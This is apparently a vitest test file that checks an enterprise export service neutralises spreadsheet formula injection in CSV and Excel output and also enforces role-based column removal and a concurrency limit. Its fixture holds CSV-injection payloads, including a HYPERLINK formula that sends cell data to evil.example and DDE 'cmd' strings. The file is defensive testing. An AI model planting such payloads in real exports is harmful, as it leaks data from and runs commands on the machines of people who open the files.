/**
 * The enterprise export hardened (issue 17.6, 17.8): spreadsheet formulas neutralised in CSV cells, codes
 * kept as text for Excel, no person-name column for callers the policy refuses person names, the Excel
 * variant, and the analytics concurrency limiter in front of every export (503 BUSY in JSON when full).
 * Real PostgreSQL, a random world stored through the sync path, the real HTTP server.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import pino from 'pino';
import type { DataSource } from 'typeorm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withStatementTimeout } from '../src/analytics/query.js';
import { loadConfig } from '../src/config.js';
import { recomputeAllRisk } from '../src/risk/service.js';
import { PiiVault } from '../src/security/pii.js';
import { createHubServer, type HubServer } from '../src/server/app.js';
import { openStore } from '../src/store/data-source.js';
import { randomWorld, type MemEnterprise } from './analytics-world.js';
import { bearer, mintToken, TEST_JWT_SECRET } from './support/auth.js';
import { createTestDatabase } from './support/db.js';

const ALL_HEADERS = [
  '统一社会信用代码',
  '企业名称',
  '企业类型',
  '登记状态',
  '法定代表人',
  '行政区划代码',
  '所在地区',
  '行业代码',
  '注册资本（万元）',
  '成立日期',
  '风险分值',
  '风险等级',
  '风险模型版本',
  '主要风险因子',
];
// values a spreadsheet would run as formulas (OWASP CSV Injection): = + - @, tab, CR
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
  type: "+cmd|' /C calc'!A0",
  legal: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
};

describe('enterprise export hardening', () => {
  let db: Awaited<ReturnType<typeof createTestDatabase>>;
  let ds: DataSource;
  let server: HubServer;
  let url: string;
  let world: MemEnterprise[];
  let hostile: string[];
  const vault = new PiiVault(Buffer.alloc(32, 7));
  const MAX_CONCURRENT = 2;

  beforeAll(async () => {
    db = await createTestDatabase('export');
    ds = await openStore(db.url);
    world = await randomWorld(ds, vault, 40, 20261201);
    await recomputeAllRisk(ds);
    // six enterprises whose registration texts a hostile source could have sent
    hostile = world.slice(0, 6).map((e) => e.creditCode);
    const [a, b, c, d, e, f] = hostile;
    await ds.query(`UPDATE enterprise SET name = $2, type = $3, legal_representative = $4 WHERE credit_code = $1`, [
      a,
      HOSTILE.name,
      HOSTILE.type,
      HOSTILE.legal,
    ]);
    await ds.query(`UPDATE enterprise SET name = $2 WHERE credit_code = $1`, [b, HOSTILE.minus]);
    await ds.query(`UPDATE enterprise SET name = $2 WHERE credit_code = $1`, [c, HOSTILE.tab]);
    await ds.query(`UPDATE enterprise SET name = $2 WHERE credit_code = $1`, [d, HOSTILE.cr]);
    await ds.query(`UPDATE enterprise SET legal_representative = '欧阳测名' WHERE credit_code = ANY($1)`, [[e, f]]);
    const config = loadConfig({
      NODE_ENV: 'test',
      HUB_DATA_DIR: '.data/test-export',
      HUB_JWT_SECRET: TEST_JWT_SECRET,
      HUB_RATE_LIMIT_POINTS: '0',
      HUB_ANALYTICS_MAX_CONCURRENT: String(MAX_CONCURRENT),
      HUB_ANALYTICS_QUEUE: '0',
    });
    server = await createHubServer({ ds, config, vault, connectors: new Map(), log: pino({ level: 'silent' }) });
    url = await server.listen(0, '127.0.0.1');
  });
  afterAll(async () => {
    await server?.close();
    await ds?.destroy();
    await db?.drop();
  });

  async function csvAs(
    roles: Parameters<typeof mintToken>[0],
    where: object = {},
  ): Promise<{ status: number; bytes: Buffer; text: string; rows: string[][] }> {
    const res = await fetch(`${url}/export/enterprises.csv?where=${encodeURIComponent(JSON.stringify(where))}`, {
      headers: bearer(await mintToken(roles)),
    });
    const bytes = Buffer.from(await res.arrayBuffer());
    const text = bytes.subarray(3).toString('utf8');
    return { status: res.status, bytes, text, rows: res.status === 200 ? (parse(text, { relax_quotes: false }) as string[][]) : [] };
  }

  it('neutralises cells that would start a formula (= + - @ tab CR) with a leading single quote, and nothing else', async () => {
    const { status, rows } = await csvAs(['inspector'], { creditCode: { _in: hostile.slice(0, 4) } });
    expect(status).toBe(200);
    const h = rows[0]!;
    const byCode = new Map(rows.slice(1).map((r) => [r[h.indexOf('统一社会信用代码')]!.trimEnd(), r]));
    const cell = (code: string, header: string) => byCode.get(code)![h.indexOf(header)];
    const [a, b, c, d] = hostile;
    expect(cell(a!, '企业名称')).toBe(`'${HOSTILE.name}`);
    expect(cell(a!, '企业类型')).toBe(`'${HOSTILE.type}`);
    expect(cell(a!, '法定代表人')).toBe(`'${HOSTILE.legal}`);
    expect(cell(b!, '企业名称')).toBe(`'${HOSTILE.minus}`);
    expect(cell(c!, '企业名称')).toBe(`'${HOSTILE.tab}`);
    expect(cell(d!, '企业名称')).toBe(`'${HOSTILE.cr}`);
    // no cell of the whole export still starts like a formula
    const all = await csvAs(['inspector']);
    for (const r of all.rows) for (const v of r) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    // ordinary text is left as it is
    const plain = world.find((e) => !hostile.includes(e.creditCode))!;
    const row = all.rows.find((r) => r[0]!.trimEnd() === plain.creditCode)!;
    expect(row[1]).toBe(plain.name);
  });

  it('keeps codes as text for Excel: BOM, Chinese headers, every code cell quoted with its code first and a closing tab', async () => {
    const { bytes, text, rows } = await csvAs(['inspector']);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows[0]).toEqual(ALL_HEADERS);
    expect(rows.length - 1).toBe(world.length);
    // the world's codes are GB 32100 codes; an all-digit one is what Excel would turn into 9.14E+17
    expect(world.some((e) => /^\d{18}$/.test(e.creditCode))).toBe(true);
    for (const e of world) {
      // as written on the wire: the cell quoted, the code, a tab (text to Excel; a number never ends in a tab)
      expect(text).toContain(`"${e.creditCode}\t"`);
      expect(text).toContain(`"${e.divisionCode}\t"`);
    }
    const codes = rows.slice(1).map((r) => r[0]!);
    expect(codes.every((c) => /^[0-9A-Z]{18}\t$/.test(c))).toBe(true);
    expect(codes.map((c) => c.trimEnd()).sort()).toEqual(world.map((e) => e.creditCode).sort());
  });

  it('gives analysts no legal-representative (person name) column; inspectors keep it (policy: Person.name)', async () => {
    const analyst = await csvAs(['analyst']);
    expect(analyst.status).toBe(200);
    expect(analyst.rows[0]).toEqual(ALL_HEADERS.filter((x) => x !== '法定代表人'));
    // nor the name anywhere in the file
    expect(analyst.text).not.toContain('欧阳测名');
    expect(analyst.rows.slice(1).every((r) => r.length === ALL_HEADERS.length - 1)).toBe(true);
    const inspector = await csvAs(['inspector']);
    expect(inspector.rows[0]).toEqual(ALL_HEADERS);
    expect(inspector.text).toContain('欧阳测名');
    // the Excel file follows the same rule
    for (const [roles, hasName] of [
      [['analyst'], false],
      [['inspector'], true],
    ] as const) {
      const res = await fetch(`${url}/export/enterprises.xlsx`, { headers: bearer(await mintToken([...roles])) });
      expect(res.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(await res.arrayBuffer());
      const headers = (wb.worksheets[0]!.getRow(1).values as unknown[]).slice(1);
      expect(headers.includes('法定代表人')).toBe(hasName);
      let names = 0;
      wb.worksheets[0]!.eachRow((row) =>
        row.eachCell((c) => {
          if (c.value === '欧阳测名') names++;
        }),
      );
      expect(names).toBe(hasName ? 2 : 0);
    }
  });

  it('exports Excel: one sheet, Chinese headers, codes as text cells formatted "@", numbers as numbers', async () => {
    const res = await fetch(`${url}/export/enterprises.xlsx?orderBy=${encodeURIComponent(JSON.stringify({ field: 'CREDIT_CODE' }))}`, {
      headers: bearer(await mintToken(['inspector'])),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toContain(encodeURIComponent('企业名单.xlsx'));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const ws = wb.worksheets[0]!;
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(ALL_HEADERS);
    expect(ws.rowCount).toBe(world.length + 1);
    const sorted = [...world].sort((x, y) => (x.creditCode < y.creditCode ? -1 : 1));
    for (let i = 0; i < sorted.length; i++) {
      const row = ws.getRow(i + 2);
      const e = sorted[i]!;
      expect(row.getCell(1).value).toBe(e.creditCode);
      expect(row.getCell(1).numFmt).toBe('@');
      expect(row.getCell(6).value).toBe(e.divisionCode);
      expect(row.getCell(6).numFmt).toBe('@');
      expect(row.getCell(9).value).toBe(e.registeredCapital);
    }
  });

  it('goes through the analytics concurrency limiter: a full limiter answers 503 BUSY in JSON with Retry-After', async () => {
    // hold every analytic slot of this hub (the same limiter GraphQL analytics use)
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    let entered = 0;
    const holders = Array.from({ length: MAX_CONCURRENT }, () =>
      withStatementTimeout(ds, 15_000, server.services.analytics.slots, async () => {
        entered++;
        await gate;
      }),
    );
    await expect.poll(() => entered).toBe(MAX_CONCURRENT);
    try {
      for (const path of ['/export/enterprises.csv', '/export/enterprises.xlsx']) {
        const res = await fetch(`${url}${path}`, { headers: bearer(await mintToken(['analyst'])) });
        expect(res.status).toBe(503);
        expect(res.headers.get('content-type')).toMatch(/application\/json/);
        expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
        const body = (await res.json()) as { error: { code: string; messageZh: string } };
        expect(body.error.code).toBe('BUSY');
        expect(body.error.messageZh).toMatch(/繁忙/);
      }
    } finally {
      release();
      await Promise.all(holders);
    }
    // once free, the export answers again
    expect((await csvAs(['analyst'])).status).toBe(200);
  });

  it('refuses roles without the right, and bad input, in JSON with a Chinese message', async () => {
    const officer = await fetch(`${url}/export/enterprises.xlsx`, { headers: bearer(await mintToken(['licensing_officer'])) });
    expect(officer.status).toBe(403);
    expect(((await officer.json()) as { error: { code: string } }).error.code).toBe('FORBIDDEN');
    const bad = await fetch(`${url}/export/enterprises.xlsx?where=${encodeURIComponent('{"nope":{"_eq":1}}')}`, {
      headers: bearer(await mintToken(['analyst'])),
    });
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({
      error: { code: 'BAD_USER_INPUT', field: 'where.nope', messageZh: expect.stringMatching(/[\u4e00-\u9fff]/) },
    });
  });
});
